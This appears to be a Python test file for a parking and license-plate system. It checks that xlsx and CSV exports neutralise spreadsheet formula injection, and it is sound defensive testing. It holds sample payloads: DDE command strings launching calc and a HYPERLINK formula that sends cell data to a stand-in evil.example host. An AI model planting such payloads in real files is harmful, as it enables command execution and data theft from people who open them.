"""Formula injection (issue 11 #8): a plate text or device name a camera sent, or a comment an
operator typed, such as `=cmd|'/C calc'!A0` or `=HYPERLINK(...)`, is written to every .xlsx export
as text — the produced files hold no formula cell (`<f>`) and the text is intact — and the reads'
CSV export quotes it with `'`."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl

from platehub.core import listfile, parking, spreadsheet
from platehub.core.access import Entry
from platehub.core.read import Read
from platehub.core.store.parking import Lot, Visit
from platehub.core.store.search import Hit
from platehub.protocols.tsapi import export

T0 = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)
NASTY = ["=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0",
         "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def assert_text_only(path: Path, expected: list[str]) -> None:
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml, xml[:2000]
    book = openpyxl.load_workbook(path)
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for text in expected:  # openpyxl reads back the text as written (\r is normalised by XML to \n)
        assert text.replace("\r", "\n") in values or text in values, (text, values)


def test_reads_export_writes_camera_text_as_text(tmp_path):
    hits = [Hit(Read(plate="CMDCCALCA0", plate_raw=text, protocol="push", source=text, first_seen=T0), text)
            for text in NASTY]
    (path,) = export.write_files(iter(hits), tmp_path, "x", fmt="xlsx")
    assert_text_only(path, NASTY)
    rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert [r[2] for r in rows[1:]] == [t.replace("\r", "\n") for t in NASTY]  # plateText column


def test_reads_csv_export_quotes_what_looks_like_a_formula(tmp_path):
    hits = [Hit(Read(plate="P1", plate_raw=text, protocol="push", source="g", first_seen=T0), text) for text in NASTY]
    (path,) = export.write_files(iter(hits), tmp_path, "x", fmt="csv")
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))[1:]
    assert [r[2] for r in rows] == ["'" + t for t in NASTY] and [r[7] for r in rows] == ["'" + t for t in NASTY]
    assert [r[1] for r in rows] == ["P1"] * len(NASTY)  # plain text is untouched


def test_visits_export_writes_lot_names_and_plates_as_text(tmp_path):
    lots = [Lot(1, "=HYPERLINK(\"http://evil.example\")", "counter", 0, 10)]
    visits = [Visit(i, 1, "AB123", "closed", None, None, text, 1, T0, T0) for i, text in enumerate(NASTY, 1)]
    path = tmp_path / "visits.xlsx"
    assert parking.write_export(iter(visits), lots, path, "xlsx") == len(NASTY)
    assert_text_only(path, [*NASTY, lots[0].name])


def test_access_list_export_writes_comments_as_text(tmp_path):
    entries = [Entry("allow", f"AB{i:03d}", comment=text, tag=text) for i, text in enumerate(NASTY)]
    path = tmp_path / "lists.xlsx"
    listfile.write_xlsx(iter(entries), UTC, path)
    assert_text_only(path, NASTY)


def test_control_characters_xml_cannot_hold_do_not_fail_the_export(tmp_path):
    hits = [Hit(Read(plate="P1", plate_raw="A\x01B\x1f=", protocol="push", source="g", first_seen=T0), "dev\x00")]
    (path,) = export.write_files(iter(hits), tmp_path, "x", fmt="xlsx")
    rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert rows[1][2] == "A\ufffdB\ufffd=" and rows[1][7] == "dev\ufffd"
    assert re.search(r"<f>", sheet_xml(path)) is None
    assert spreadsheet.csv_row(["ok", 1, None, "=x"]) == ["ok", 1, None, "'=x"]
